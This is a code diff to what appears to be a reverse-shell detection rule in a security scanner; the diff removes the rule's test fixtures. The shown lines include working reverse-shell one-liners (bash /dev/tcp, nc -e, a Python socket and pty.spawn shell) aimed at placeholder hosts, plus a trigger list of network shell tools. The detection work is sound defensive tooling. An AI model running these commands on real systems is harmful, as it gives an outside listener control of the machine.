@@ -13,18 +13,6 @@ export const rceReverseShellRule = defineRegexRule({
     rationale:
       'Connecting an interactive shell to a remote socket (/dev/tcp redirection, nc -e, socat exec, Python/Node socket + pty/subprocess) hands the machine to whoever listens.',
     example: 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
-    fixtures: {
-      positive: [
-        { path: 'x.sh', text: 'bash -i >& /dev/tcp/198.51.100.2/9001 0>&1\n' },
-        { text: 'nc -e /bin/sh 203.0.113.7 4444' },
-        { path: 'r.py', text: 's=socket.socket();s.connect(("h.test",443));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")\n' },
-      ],
-      negative: [
-        { text: 'nc -zv db.internal 5432  # check the port is open' },
-        { text: 'bash -i for an interactive shell in the container.' },
-        { path: 'c.py', text: 's = socket.create_connection(("localhost", 8080))\ns.sendall(b"ping")\n' },
-      ],
-    },
   },
   triggers: ['/dev/tcp', '/dev/udp', 'nc', 'ncat', 'netcat', 'socat', 'mkfifo', 'dup2', 'pty.spawn', 'subprocess', 'child_process', 'net.socket', 'tcpclient'],
   patterns: [
